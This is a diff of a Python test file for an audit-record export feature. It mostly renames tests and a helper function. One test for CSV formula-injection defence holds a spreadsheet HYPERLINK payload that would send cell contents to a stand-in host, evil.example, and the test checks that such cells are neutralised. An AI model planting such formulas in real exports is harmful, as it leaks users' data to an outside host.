@@ -1,4 +1,4 @@
-"""Exporting audit records: all that fit, in the order of the chain, harmless to spreadsheets."""
+"""Export of audit records: all that match, in the order of the chain, safe for spreadsheets."""
 
 import csv
 import io
@@ -20,22 +20,22 @@ from datasphere_glue.model.run_action import RunAction
 from datasphere_glue.outcome.run import Result
 from datasphere_glue.plan.actions import ChangeAction
 from datasphere_glue.storage.store import json_lines
-from tests.unit.evidence.audit_trails import left_by
+from tests.unit.evidence.audit_trails import write_run
 from tests.unit.samples import nightly, table_change
 from tests.unit.storage.stores import MemoryStore
 
 
 @pytest.fixture
 def store() -> MemoryStore:
-    """Return the trail of three nights and of a person, and a record from before the chain."""
+    """Return the trail of three nightly runs, a run of a person and a record without a chain."""
     store = MemoryStore()
     old = {"run_id": "old", "started": "2026-11-01T01:00:00+00:00", "event": "change"}
     store.put("runs/old/audit.jsonl", json_lines([old | {"space": "SALES", "asset": "V_ORDERS"}]))
-    left_by(
+    write_run(
         store, "z-first", table_change(ChangeAction.CREATE), started="2026-11-20T01:00:00+00:00"
     )
-    left_by(store, "second", table_change(space="HR"), started="2026-11-21T23:30:00-02:00")
-    left_by(store, "quiet", started="2026-11-22T12:00:00+00:00")
+    write_run(store, "second", table_change(space="HR"), started="2026-11-21T23:30:00-02:00")
+    write_run(store, "quiet", started="2026-11-22T12:00:00+00:00")
     run = nightly(
         Result(RunAction.SYNC, error=CredentialsRejected("no")),
         run_id="refused",
@@ -66,7 +66,7 @@ ALL = [
 ]
 
 
-def test_records_come_in_the_order_of_the_chain_with_their_place(store: MemoryStore) -> None:
+def test_records_are_in_the_order_of_the_chain_with_file_and_line(store: MemoryStore) -> None:
     records = list(export_records(store, ExportFilter()))
 
     assert run_and_event(records) == ALL
@@ -93,13 +93,13 @@ def test_records_come_in_the_order_of_the_chain_with_their_place(store: MemorySt
         (ExportFilter(since=day(20), events=frozenset({"change"})), ["z-first", "second"]),
     ],
 )
-def test_filters_leave_out_the_rest(
+def test_a_filter_excludes_records_that_do_not_match(
     store: MemoryStore, selected: ExportFilter, runs: list[str]
 ) -> None:
     assert [record["run_id"] for record in export_records(store, selected)] == runs
 
 
-def test_lines_and_an_array_hold_the_same(store: MemoryStore) -> None:
+def test_json_lines_and_array_hold_the_same_records(store: MemoryStore) -> None:
     records = list(export_records(store, ExportFilter()))
     lines = b"".join(json_lines(records)).decode()
 
@@ -153,14 +153,14 @@ def test_csv_has_a_column_for_every_key(store: MemoryStore) -> None:
         '=HYPERLINK("https://evil.example?"&A1,"x")',
     ],
 )
-def test_no_cell_can_act_as_a_formula(text: str) -> None:
+def test_no_cell_is_evaluated_as_a_formula(text: str) -> None:
     (row,) = rows([{"reason": text, "actor": text, "event": "change"}])
 
     assert row["reason"] == row["actor"] == f"'{text}"
 
 
 @given(st.text())
-def test_a_text_comes_back_from_csv_as_it_was(text: str) -> None:
+def test_a_text_survives_csv_unchanged(text: str) -> None:
     (row,) = rows([{"reason": text}])
 
     assert row["reason"].removeprefix("'") == text.removeprefix("'")
@@ -179,7 +179,7 @@ def test_a_text_comes_back_from_csv_as_it_was(text: str) -> None:
         b"[" * 100_000,
     ],
 )
-def test_a_line_that_is_no_record_is_told_with_its_place(store: MemoryStore, line: bytes) -> None:
+def test_an_invalid_line_is_reported_with_file_and_number(store: MemoryStore, line: bytes) -> None:
     store.bodies["runs/quiet/audit.jsonl"] += line + b"\n"
 
     with pytest.raises(Unavailable, match=r"line 2 of memory:runs/quiet/audit\.jsonl") as error:
@@ -187,11 +187,11 @@ def test_a_line_that_is_no_record_is_told_with_its_place(store: MemoryStore, lin
     assert "audit verify" in error.value.remedy
 
 
-def test_ten_thousand_records_are_verified_and_exported_in_a_moment() -> None:
+def test_ten_thousand_records_are_verified_and_exported_within_seconds() -> None:
     store = MemoryStore()
     for night in range(20):
         changes = (table_change(name=f"v_{n}", space=f"S{n % 7}") for n in range(500))
-        left_by(store, f"night-{night}", *changes, started=f"2026-11-{night + 1:02}T01:00:00Z")
+        write_run(store, f"night-{night}", *changes, started=f"2026-11-{night + 1:02}T01:00:00Z")
 
     began = process_time()
     assert verify(store).records == 10_020
